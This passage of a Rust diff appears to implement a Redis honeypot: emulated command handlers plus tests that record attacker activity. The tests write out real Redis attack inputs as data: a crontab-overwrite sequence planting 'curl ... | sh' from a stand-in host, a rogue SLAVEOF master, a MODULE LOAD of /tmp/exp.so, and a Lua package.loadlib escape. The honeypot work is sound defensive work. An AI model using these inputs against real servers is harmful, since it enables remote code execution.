+                    return Reply::err("ERR no such key");
+                };
+                self.keys -= 1;
+                self.bytes = self.bytes.saturating_sub(a[0].len() + e.value.len());
+                if self.store(&a[1], e.value, e.expires_unix_ms, events) {
+                    Reply::ok()
+                } else {
+                    oom()
+                }
+            }
+            "keys" => {
+                let mut budget = GLOB_BUDGET;
+                Reply::Array(
+                    self.dbs[self.db]
+                        .keys()
+                        .filter(|k| glob(&a[0], k, false, &mut budget))
+                        .map(Reply::bulk)
+                        .collect(),
+                )
+            }
+            "scan" => {
+                if int_arg(&a[0]).is_none_or(|c| c < 0) {
+                    return Reply::err("ERR invalid cursor");
+                }
+                let mut pattern: &[u8] = b"*";
+                let mut i = 1;
+                while i < a.len() {
+                    match (lower(&a[i]).as_str(), a.get(i + 1)) {
+                        ("match", Some(p)) => pattern = p,
+                        ("count" | "type", Some(_)) => {}
+                        _ => return syntax(),
+                    }
+                    i += 2;
+                }
+                let mut budget = GLOB_BUDGET;
+                // Everything fits in one page: the cursor goes straight back to 0.
+                Reply::Array(vec![
+                    Reply::bulk("0"),
+                    Reply::Array(
+                        self.dbs[self.db]
+                            .keys()
+                            .filter(|k| glob(pattern, k, false, &mut budget))
+                            .map(Reply::bulk)
+                            .collect(),
+                    ),
+                ])
+            }
+            "randomkey" => self.dbs[self.db]
+                .keys()
+                .next()
+                .map_or(Reply::Nil, Reply::bulk),
+            "dbsize" => Reply::Int(self.dbs[self.db].len() as i64),
+            "flushall" | "flushdb" => {
+                if a.len() > 1
+                    || a.first()
+                        .is_some_and(|m| !matches!(lower(m).as_str(), "async" | "sync"))
+                {
+                    return syntax();
+                }
+                let dbs: Vec<usize> = if name == "flushall" {
+                    (0..DATABASES).collect()
+                } else {
+                    vec![self.db]
+                };
+                for d in dbs {
+                    let keys: Vec<Vec<u8>> = self.dbs[d].keys().cloned().collect();
+                    let cur = std::mem::replace(&mut self.db, d);
+                    for k in keys {
+                        self.remove(&k);
+                    }
+                    self.db = cur;
+                }
+                Reply::ok()
+            }
+            "select" => match int_arg(&a[0]) {
+                Some(n) if (0..DATABASES as i64).contains(&n) => {
+                    self.db = n as usize;
+                    Reply::ok()
+                }
+                Some(_) => Reply::err("ERR DB index is out of range"),
+                None => not_int(),
+            },
+            "lastsave" => Reply::Int(self.last_save_unix),
+            "time" => Reply::Array(vec![
+                Reply::bulk((clock.unix_ms / 1000).to_string()),
+                Reply::bulk(((clock.unix_ms % 1000) * 1000).to_string()),
+            ]),
+            "role" => match &self.replica_of {
+                None => Reply::Array(vec![
+                    Reply::bulk("master"),
+                    Reply::Int(0),
+                    Reply::Array(vec![]),
+                ]),
+                Some((h, p, _)) => Reply::Array(vec![
+                    Reply::bulk("slave"),
+                    Reply::bulk(h),
+                    Reply::Int(i64::from(*p)),
+                    Reply::bulk("connect"),
+                    Reply::Int(-1),
+                ]),
+            },
+            "bgrewriteaof" => Reply::Simple("Background append only file rewriting started".into()),
+            "wait" => Reply::Int(0),
+            "client" => self.client(a, clock),
+            "command" => command(a),
+            "slowlog" => match a.first().map(|s| lower(s)).as_deref() {
+                Some("get") => Reply::Array(vec![]),
+                Some("len") => Reply::Int(0),
+                Some("reset") => Reply::ok(),
+                _ => Reply::err("ERR unknown subcommand. Try SLOWLOG HELP."),
+            },
+            "memory" => match a.first().map(|s| lower(s)).as_deref() {
+                Some("usage") if a.len() >= 2 => self.get(&a[1]).map_or(Reply::Nil, |e| {
+                    Reply::Int(56 + (a[1].len() + e.value.len()) as i64)
+                }),
+                Some("doctor") => Reply::bulk(
+                    "Hi Sam, I can't find any memory issue in your instance. I can only account for what occurs on this base.",
+                ),
+                _ => Reply::err("ERR unknown subcommand. Try MEMORY HELP."),
+            },
+            "debug" => Reply::err(
+                "ERR DEBUG command not allowed. If the enable-debug-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.",
+            ),
+            "latency" => Reply::Array(vec![]),
+            "acl" => match a.first().map(|s| lower(s)).as_deref() {
+                Some("whoami") => Reply::bulk("default"),
+                Some("list") => Reply::Array(vec![Reply::bulk(if self.settings.require_auth {
+                    "user default on sanitize-payload #6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b ~* &* +@all"
+                } else {
+                    "user default on nopass sanitize-payload ~* &* +@all"
+                })]),
+                Some("users") => Reply::Array(vec![Reply::bulk("default")]),
+                _ => Reply::err("ERR unknown subcommand. Try ACL HELP."),
+            },
+            _ => Reply::err(format!("ERR unknown command '{name}'")),
+        }
+    }
+
+    fn client(&mut self, a: &[Vec<u8>], clock: Clock) -> Reply {
+        let sub = a.first().map(|s| lower(s)).unwrap_or_default();
+        match (sub.as_str(), a.len()) {
+            ("id", 1) => Reply::Int(self.client_id as i64),
+            ("getname", 1) => self.client_name.clone().map_or(Reply::Nil, Reply::Bulk),
+            ("setname", 2) => {
+                if a[1].iter().any(|&b| b <= b' ' || b > b'~') {
+                    return Reply::err(
+                        "ERR Client names cannot contain spaces, newlines or special characters.",
+                    );
+                }
+                self.client_name = Some(a[1].iter().copied().take(256).collect());
+                Reply::ok()
+            }
+            ("list" | "info", _) => {
+                let age = ((clock.unix_ms - self.started_unix_ms) / 1000).max(0);
+                let name = self
+                    .client_name
+                    .as_deref()
+                    .map(String::from_utf8_lossy)
+                    .unwrap_or_default();
+                let line = format!(
+                    "id={} addr={} laddr={} fd=8 name={} age={age} idle=0 flags=N db={} sub=0 psub=0 ssub=0 multi=-1 qbuf=26 qbuf-free=20448 argv-mem=10 multi-mem=0 rbs=1024 rbp=0 obl=0 oll=0 omem=0 tot-mem=22298 events=r cmd=client|{sub} user=default redir=-1 resp=2\n",
+                    self.client_id, self.peer, self.local, name, self.db
+                );
+                Reply::Bulk(line.into_bytes())
+            }
+            ("kill", _) => Reply::err("ERR No such client"),
+            ("setinfo" | "reply" | "no-evict" | "no-touch", _) => Reply::ok(),
+            _ => Reply::err(format!(
+                "ERR unknown subcommand or wrong number of arguments for '{}'. Try CLIENT HELP.",
+                clamp(&sub, 128)
+            )),
+        }
+    }
+}
+
+fn command(a: &[Vec<u8>]) -> Reply {
+    match a.first().map(|s| lower(s)).as_deref() {
+        None => Reply::Array(vec![]),
+        Some("count") => Reply::Int(240),
+        Some("docs" | "info" | "list") => Reply::Array(vec![]),
+        Some(sub) => Reply::err(format!(
+            "ERR unknown subcommand '{}'. Try COMMAND HELP.",
+            clamp(sub, 128)
+        )),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const T0: i64 = 1_700_000_000_000;
+
+    fn conn(require_auth: bool, login: LoginPolicy) -> Conn {
+        let settings = Arc::new(Settings {
+            facts: ServerFacts::new("7.0.15", "s3cret".into(), T0),
+            require_auth,
+            login,
+        });
+        Conn::new(
+            settings,
+            "127.0.0.1:40000".parse().unwrap(),
+            "127.0.0.1:6379".parse().unwrap(),
+            1,
+            Clock { unix_ms: T0 },
+        )
+    }
+
+    fn run(c: &mut Conn, line: &str) -> Outcome {
+        run_at(c, line, T0)
+    }
+
+    fn run_at(c: &mut Conn, line: &str, t: i64) -> Outcome {
+        let args = super::super::resp::split_args(line.as_bytes()).unwrap();
+        c.execute(&args, Clock { unix_ms: t })
+    }
+
+    fn reply(c: &mut Conn, line: &str) -> Reply {
+        run(c, line).reply.expect("a reply")
+    }
+
+    #[test]
+    fn ping_echo_and_errors_like_redis() {
+        let mut c = conn(false, LoginPolicy::Never);
+        assert_eq!(reply(&mut c, "PING"), Reply::Simple("PONG".into()));
+        assert_eq!(reply(&mut c, "ping hi"), Reply::bulk("hi"));
+        assert_eq!(reply(&mut c, "ECHO x"), Reply::bulk("x"));
+        assert_eq!(
+            reply(&mut c, "GET / HTTP/1.0"),
+            Reply::err("ERR wrong number of arguments for 'get' command")
+        );
+        assert_eq!(
+            reply(&mut c, "FOO a b"),
+            Reply::err("ERR unknown command 'FOO', with args beginning with: 'a' 'b' ")
+        );
+        let post = run(&mut c, "POST / HTTP/1.1");
+        assert!(post.close && post.reply.is_none());
+    }
+
+    #[test]
+    fn auth_without_requirepass_answers_like_redis() {
+        let mut c = conn(false, LoginPolicy::Never);
+        let o = run(&mut c, "AUTH hunter2");
+        assert!(
+            matches!(&o.reply, Some(Reply::Error(e)) if e.starts_with("ERR AUTH <password> called without any password configured"))
+        );
+        match &o.events[..] {
+            [EventKind::AuthAttempt(a)] => {
+                assert_eq!(
+                    (a.username.as_str(), a.password.as_deref(), a.success),
+                    ("default", Some("hunter2"), false)
+                );
+            }
+            e => panic!("{e:?}"),
+        }
+    }
+
+    #[test]
+    fn requirepass_gates_everything_but_auth() {
+        let mut c = conn(
+            true,
+            LoginPolicy::Credentials(vec![("default".into(), "letmein".into())]),
+        );
+        assert_eq!(
+            reply(&mut c, "PING"),
+            Reply::err("NOAUTH Authentication required.")
+        );
+        assert_eq!(
+            reply(&mut c, "CONFIG GET dir"),
+            Reply::err("NOAUTH Authentication required.")
+        );
+        // Unknown commands and wrong arity are checked first, as in Redis 7.
+        assert_eq!(
+            reply(&mut c, "GET / HTTP/1.0"),
+            Reply::err("ERR wrong number of arguments for 'get' command")
+        );
+        let o = run(&mut c, "AUTH wrong");
+        assert_eq!(o.reply, Some(wrongpass()));
+        let o = run(&mut c, "AUTH admin letmein");
+        assert_eq!(o.reply, Some(wrongpass()));
+        match &o.events[..] {
+            [EventKind::AuthAttempt(a)] => assert_eq!(a.username, "admin"),
+            e => panic!("{e:?}"),
+        }
+        let o = run(&mut c, "AUTH letmein");
+        assert_eq!(o.reply, Some(Reply::ok()));
+        assert!(matches!(&o.events[..], [EventKind::AuthAttempt(a)] if a.success));
+        assert_eq!(reply(&mut c, "PING"), Reply::Simple("PONG".into()));
+        assert_eq!(
+            reply(&mut c, "CONFIG GET requirepass"),
+            Reply::Array(vec![Reply::bulk("requirepass"), Reply::bulk("s3cret")])
+        );
+    }
+
+    #[test]
+    fn after_attempts_policy_counts_failures_per_connection() {
+        let mut c = conn(true, LoginPolicy::AfterAttempts(2));
+        assert_eq!(reply(&mut c, "AUTH a"), wrongpass());
+        assert_eq!(reply(&mut c, "AUTH b"), wrongpass());
+        assert_eq!(reply(&mut c, "AUTH c"), Reply::ok());
+    }
+
+    #[test]
+    fn config_set_is_recorded_and_reflected_and_save_captures() {
+        let mut c = conn(false, LoginPolicy::Never);
+        assert_eq!(
+            reply(&mut c, "CONFIG GET dir"),
+            Reply::Array(vec![Reply::bulk("dir"), Reply::bulk("/var/lib/redis")])
+        );
+        assert_eq!(
+            reply(&mut c, "CONFIG SET dir /var/spool/cron/crontabs"),
+            Reply::ok()
+        );
+        assert_eq!(reply(&mut c, "config set dbfilename root"), Reply::ok());
+        assert_eq!(
+            reply(&mut c, "CONFIG GET d*"),
+            Reply::Array(vec![
+                Reply::bulk("daemonize"),
+                Reply::bulk("yes"),
+                Reply::bulk("databases"),
+                Reply::bulk("16"),
+                Reply::bulk("dbfilename"),
+                Reply::bulk("root"),
+                Reply::bulk("dir"),
+                Reply::bulk("/var/spool/cron/crontabs"),
+            ])
+        );
+        assert_eq!(
+            reply(&mut c, "CONFIG SET nosuch 1"),
+            Reply::err("ERR Unknown option or number of arguments for CONFIG SET - 'nosuch'")
+        );
+        assert_eq!(
+            reply(
+                &mut c,
+                "SET x \"\\n*/1 * * * * curl -fsSL http://x/y.sh | sh\\n\""
+            ),
+            Reply::ok()
+        );
+        let o = run(&mut c, "SAVE");
+        assert_eq!(o.reply, Some(Reply::ok()));
+        let cap = o.capture.expect("capture of the would-be file");
+        assert_eq!(cap.path, "/var/spool/cron/crontabs/root");
+        assert_eq!(
+            cap.content,
+            b"\n*/1 * * * * curl -fsSL http://x/y.sh | sh\n\n"
+        );
+        // A save without a moved dir is ordinary and not captured.
+        let mut c = conn(false, LoginPolicy::Never);
+        reply(&mut c, "SET a b");
+        assert!(run(&mut c, "BGSAVE").capture.is_none());
+    }
+
+    #[test]
+    fn replicaof_is_a_download_never_a_connection() {
+        let mut c = conn(false, LoginPolicy::Never);
+        let o = run(&mut c, "SLAVEOF 203.0.113.9 8886");
+        assert_eq!(o.reply, Some(Reply::ok()));
+        assert_eq!(
+            o.events,
+            vec![EventKind::Download {
+                url: "redis://203.0.113.9:8886".into(),
+                tool: "replicaof".into()
+            }]
+        );
+        let Reply::Bulk(info) = reply(&mut c, "INFO replication") else {
+            panic!()
+        };
+        assert!(
+            String::from_utf8(info)
+                .unwrap()
+                .contains("role:slave\r\nmaster_host:203.0.113.9\r\nmaster_port:8886\r\n")
+        );
+        assert_eq!(reply(&mut c, "REPLICAOF no one"), Reply::ok());
+        assert_eq!(reply(&mut c, "REPLICAOF h port"), not_int());
+    }
+
+    #[test]
+    fn module_and_eval_answer_plausibly() {
+        let mut c = conn(false, LoginPolicy::Never);
+        assert_eq!(
+            reply(&mut c, "MODULE LOAD /tmp/exp.so"),
+            Reply::err("ERR Error loading the extension. Please check the server logs.")
+        );
+        assert_eq!(reply(&mut c, "EVAL \"return 1\" 0"), Reply::Int(1));
+        assert_eq!(reply(&mut c, "EVAL \"return 'hi'\" 0"), Reply::bulk("hi"));
+        let evil = "local io_l = package.loadlib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); return 1";
+        let sha = sha1_hex(evil.as_bytes());
+        let Reply::Error(e) = reply(&mut c, &format!("EVAL '{evil}' 0")) else {
+            panic!()
+        };
+        assert_eq!(
+            e,
+            format!(
+                "ERR user_script:1: Script attempted to access nonexistent global variable 'package' script: {sha}, on @user_script:1."
+            )
+        );
+        assert!(matches!(
+            reply(&mut c, &format!("EVALSHA {sha} 0")),
+            Reply::Error(_)
+        ));
+        assert_eq!(
+            reply(&mut c, "EVALSHA 0000000000000000000000000000000000000000 0"),
+            Reply::err("NOSCRIPT No matching script. Please use EVAL.")
+        );
+        assert_eq!(
+            reply(&mut c, "EVAL x 2 k"),
+            Reply::err("ERR Number of keys can't be greater than number of args")
+        );
+        assert_eq!(
+            sha1_hex(b"return 1"),
+            "e0e1f9fabfc9d4800c877a703b823ac0578ff8db"
+        );
+    }
+
+    #[test]
+    fn keyspace_commands() {
+        let mut c = conn(false, LoginPolicy::Never);
+        assert_eq!(reply(&mut c, "SET a 1"), Reply::ok());
+        assert_eq!(reply(&mut c, "SET b 2 EX 10"), Reply::ok());
+        assert_eq!(reply(&mut c, "SET a 3 NX"), Reply::Nil);
+        assert_eq!(reply(&mut c, "GET a"), Reply::bulk("1"));
+        assert_eq!(reply(&mut c, "INCR a"), Reply::Int(2));
+        assert_eq!(reply(&mut c, "EXISTS a b c"), Reply::Int(2));
+        assert_eq!(reply(&mut c, "TYPE a"), Reply::Simple("string".into()));
+        assert_eq!(reply(&mut c, "TYPE zz"), Reply::Simple("none".into()));
+        assert_eq!(reply(&mut c, "TTL a"), Reply::Int(-1));
+        assert_eq!(reply(&mut c, "TTL b"), Reply::Int(10));
+        assert_eq!(reply(&mut c, "TTL zz"), Reply::Int(-2));
+        assert_eq!(
+            reply(&mut c, "KEYS *"),
+            Reply::Array(vec![Reply::bulk("a"), Reply::bulk("b")])
+        );
+        assert_eq!(reply(&mut c, "DBSIZE"), Reply::Int(2));
+        // Expiry is evaluated against the clock passed in.
+        assert_eq!(run_at(&mut c, "GET b", T0 + 11_000).reply, Some(Reply::Nil));
+        assert_eq!(reply(&mut c, "EXPIRE a 5"), Reply::Int(1));
+        assert_eq!(reply(&mut c, "SELECT 3"), Reply::ok());
+        assert_eq!(reply(&mut c, "DBSIZE"), Reply::Int(0));
+        assert_eq!(reply(&mut c, "SET c 1"), Reply::ok());
+        assert_eq!(
+            reply(&mut c, "SELECT 16"),
+            Reply::err("ERR DB index is out of range")
+        );
+        let Reply::Bulk(ks) = reply(&mut c, "INFO keyspace") else {
+            panic!()
+        };
+        assert_eq!(
+            String::from_utf8(ks).unwrap(),
+            "# Keyspace\r\ndb0:keys=1,expires=1,avg_ttl=0\r\ndb3:keys=1,expires=0,avg_ttl=0\r\n"
+        );
+        assert_eq!(reply(&mut c, "FLUSHALL"), Reply::ok());
+        assert_eq!(reply(&mut c, "DBSIZE"), Reply::Int(0));
+        assert_eq!((c.keys, c.bytes), (0, 0));
+        assert_eq!(reply(&mut c, "DEL a"), Reply::Int(0));
+        assert_eq!(reply(&mut c, "CLIENT SETNAME me"), Reply::ok());
+        assert_eq!(reply(&mut c, "CLIENT GETNAME"), Reply::bulk("me"));
+        assert!(run(&mut c, "QUIT").close);
+    }
+
+    #[test]
+    fn keyspace_is_bounded() {
+        let mut c = conn(false, LoginPolicy::Never);
+        for i in 0..MAX_KEYS {
+            assert_eq!(reply(&mut c, &format!("SET k{i} v")), Reply::ok());
+        }
+        let o = run(&mut c, "SET one-more v");
+        assert_eq!(o.reply, Some(oom()));
+        assert!(
+            matches!(&o.events[..], [EventKind::LimitReached { limit, .. }] if limit == "redis_keyspace")
+        );
+        // Reported once per connection.
+        assert!(run(&mut c, "SET another v").events.is_empty());
+        // Overwriting an existing key still works.
+        assert_eq!(reply(&mut c, "SET k0 w"), Reply::ok());
+        let mut c = conn(false, LoginPolicy::Never);
+        let big = "x".repeat(MAX_STATE_BYTES / 2);
+        assert_eq!(reply(&mut c, &format!("SET a {big}")), Reply::ok());
+        assert_eq!(reply(&mut c, &format!("SET b {big}")), oom());
+        assert_eq!(reply(&mut c, &format!("APPEND a {big}")), oom());
+        assert!(c.bytes <= MAX_STATE_BYTES);
+    }
+}
